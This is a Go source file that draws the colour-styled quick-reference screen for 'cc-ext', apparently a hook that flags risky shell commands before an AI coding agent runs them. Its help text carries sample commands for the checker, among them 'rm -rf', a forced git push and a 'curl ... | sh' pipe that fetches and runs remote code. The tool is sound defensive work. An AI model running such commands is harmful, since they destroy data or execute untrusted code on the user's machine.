package cli

import (
	"fmt"
	"io"
	"os"
	"strconv"
	"strings"

	"github.com/charmbracelet/lipgloss"
	"golang.org/x/term"

	"github.com/cc-extention/cc-ext/internal/core"
)

// Catppuccin Mocha color palette
var (
	colorMauve   = lipgloss.Color("#cba6f7") // Title
	colorBlue    = lipgloss.Color("#89b4fa") // Section headers
	colorGreen   = lipgloss.Color("#a6e3a1") // Commands
	colorYellow  = lipgloss.Color("#f9e2af") // Flags
	colorRed     = lipgloss.Color("#f38ba8") // HIGH
	colorCaution = lipgloss.Color("#f9e2af") // MEDIUM
	colorOverlay = lipgloss.Color("#6c7086") // Muted text
	colorText    = lipgloss.Color("#cdd6f4") // Normal text
	colorBase    = lipgloss.Color("#1e1e2e") // Background
)

// Styles
var (
	titleStyle = lipgloss.NewStyle().
			Bold(true).
			Foreground(colorMauve).
			MarginBottom(1)

	sectionStyle = lipgloss.NewStyle().
			Bold(true).
			Foreground(colorBlue).
			MarginTop(1)

	commandStyle = lipgloss.NewStyle().
			Foreground(colorGreen)

	flagStyle = lipgloss.NewStyle().
			Foreground(colorYellow)

	highStyle = lipgloss.NewStyle().
			Bold(true).
			Foreground(colorRed)

	mediumStyle = lipgloss.NewStyle().
			Foreground(colorCaution)

	mutedStyle = lipgloss.NewStyle().
			Foreground(colorOverlay)

	boxStyle = lipgloss.NewStyle().
			Border(lipgloss.RoundedBorder()).
			BorderForeground(colorBlue).
			Background(colorBase).
			Padding(1, 2).
			MarginTop(1).
			MarginBottom(1)
)

func showQuickReference(w io.Writer) {
	width := clampWidth(detectWidth())
	useUnicode := supportsUnicode()

	border := lipgloss.RoundedBorder()
	if !useUnicode {
		border = lipgloss.Border{
			Top:         "-",
			Bottom:      "-",
			Left:        "|",
			Right:       "|",
			TopLeft:     "+",
			TopRight:    "+",
			BottomLeft:  "+",
			BottomRight: "+",
		}
	}

	container := boxStyle.Copy().Border(border).Width(width)

	titleText := " CC-EXT QUICK REFERENCE: Risky Command Confirmation "
	titleRendered := gradientText(titleText, []lipgloss.Color{colorMauve, colorBlue})
	if !useUnicode {
		titleRendered = "CC-EXT QUICK REFERENCE - Risky Command Confirmation"
	}
	title := titleStyle.Copy().Width(width - 4).Align(lipgloss.Center).Render(titleRendered)

	setup := renderSection(useUnicode, "🔷 SETUP (once)", []string{
		bullet(`"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "cc-ext hook"}]}]`, ""),
		bullet("cc-ext hook test \"rm -rf /tmp/foo\"", "preview the decision document"),
	})

	check := renderSection(useUnicode, "🔶 CHECK A COMMAND", []string{
		bullet("cc-ext check \"git push --force; curl http://x | sh\"", "verdict per sub-command"),
		bullet("cc-ext check \"git reset --hard\" --lang ja -j", "structured output, Japanese message"),
		bullet("cc-ext check \"...\" --exit-code", "exit 1 when risky (scripts, CI)"),
	})

	rules := renderSection(useUnicode, "🛡️ RULES", []string{
		bullet("cc-ext rules list --level high", "rules in match order"),
		bullet("cc-ext rules export -f toml --file rules.toml", "start a custom catalog"),
		bullet("cc-ext rules validate rules.toml", "report catalog defects"),
		bullet("cc-ext config set rules.file ~/.cc-ext/rules.toml --global", "load it on every run"),
	})

	tiers := tierLegend(useUnicode)
	flags := flagLegend(useUnicode)
	footer := footerLegend(useUnicode)

	content := lipgloss.JoinVertical(lipgloss.Left,
		title,
		setup,
		check,
		rules,
		tiers,
		flags,
		footer,
	)

	fmt.Fprintln(w, container.Render(content))
}

func clampWidth(w int) int {
	if w < 72 {
		return 72
	}
	if w > 100 {
		return 100
	}
	return w
}

func detectWidth() int {
	if w, _, err := term.GetSize(int(os.Stdout.Fd())); err == nil && w > 0 {
		return w
	}
	// fall back to environment or default
	if cols := os.Getenv("COLUMNS"); cols != "" {
		if v, err := strconv.Atoi(cols); err == nil && v > 0 {
			return v
		}
	}
	return 80
}

func supportsUnicode() bool {
	termEnv := strings.ToLower(os.Getenv("TERM"))
	locale := strings.ToLower(strings.Join([]string{
		os.Getenv("LC_ALL"),
		os.Getenv("LC_CTYPE"),
		os.Getenv("LANG"),
	}, " "))
	if strings.Contains(termEnv, "dumb") {
		return false
	}
	return strings.Contains(locale, "utf-8") || strings.Contains(locale, "utf8")
}

func gradientText(text string, colors []lipgloss.Color) string {
	if len(colors) == 0 || !supportsUnicode() {
		return text
	}
	runes := []rune(text)
	segments := len(colors)
	if segments == 1 {
		return lipgloss.NewStyle().Foreground(colors[0]).Render(text)
	}
	// Handle single character case to avoid division by zero
	if len(runes) <= 1 {
		return lipgloss.NewStyle().Foreground(colors[0]).Render(text)
	}

	var b strings.Builder
	for i, r := range runes {
		// simple linear gradient selection
		idx := i * (segments - 1) / (len(runes) - 1)
		b.WriteString(lipgloss.NewStyle().Foreground(colors[idx]).Render(string(r)))
	}
	return b.String()
}

func bullet(command, desc string) string {
	if desc == "" {
		return commandStyle.Render("  " + command)
	}
	return commandStyle.Render("  "+command) + mutedStyle.Render("  "+desc)
}

func renderSection(useUnicode bool, title string, lines []string) string {
	if !useUnicode {
		title = strings.TrimLeft(title, "🔷🔶🛡️ ") // strip icons for ASCII fallback
	}
	header := sectionStyle.Render(title)
	body := strings.Join(lines, "\n")
	return lipgloss.JoinVertical(lipgloss.Left, header, body)
}

func tierLegend(useUnicode bool) string {
	high := "HIGH (ask)"
	medium := "MEDIUM (ask)"
	none := "NONE ({})"
	if useUnicode {
		high = core.LevelHigh.Glyph() + " " + high
		medium = core.LevelMedium.Glyph() + " " + medium
	}
	return lipgloss.JoinVertical(lipgloss.Left,
		sectionStyle.Render("🎯 RISK LEVELS"),
		fmt.Sprintf("  %s   %s   %s", highStyle.Render(high), mediumStyle.Render(medium), mutedStyle.Render(none)),
	)
}

func flagLegend(useUnicode bool) string {
	prefix := "🚩 GLOBAL FLAGS"
	if !useUnicode {
		prefix = "FLAGS"
	}
	return lipgloss.JoinVertical(lipgloss.Left,
		sectionStyle.Render(prefix),
		flagStyle.Render("  -j, --json")+mutedStyle.Render("              structured output"),
		flagStyle.Render("  -o, --output <fmt>")+mutedStyle.Render("      text, json, yaml"),
		flagStyle.Render("  -C, --project <dir>")+mutedStyle.Render("     override project path"),
		flagStyle.Render("  -c, --config <file>")+mutedStyle.Render("     project config file"),
		flagStyle.Render("  -v, --verbose")+mutedStyle.Render("           debug logging to stderr"),
	)
}

func footerLegend(useUnicode bool) string {
	config := "cc-ext config"
	help := "cc-ext <command> --help"
	if !useUnicode {
		return mutedStyle.Render("CONFIG: " + config + "   HELP: " + help)
	}
	return lipgloss.JoinHorizontal(lipgloss.Left,
		mutedStyle.Render("CONFIG: "), commandStyle.Render(config),
		mutedStyle.Render("   HELP: "), commandStyle.Render(help),
	)
}
